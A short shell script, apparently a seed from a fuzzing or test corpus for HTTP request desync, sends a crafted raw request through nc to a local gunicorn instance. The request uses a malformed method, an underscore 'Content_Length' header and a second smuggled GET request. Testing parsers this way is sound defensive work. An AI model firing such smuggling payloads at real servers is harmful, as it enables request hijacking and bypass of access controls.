#!/bin/sh
# desync/field-name-underscore-framing/smuggled-request via seed against gunicorn
printf 'OST / HTTP/1.1\r\nContent_Length:\r\n\r\nGET / HTTP/1.1\r\n\r\n' | nc 127.0.0.1 ${PORT:-39237}
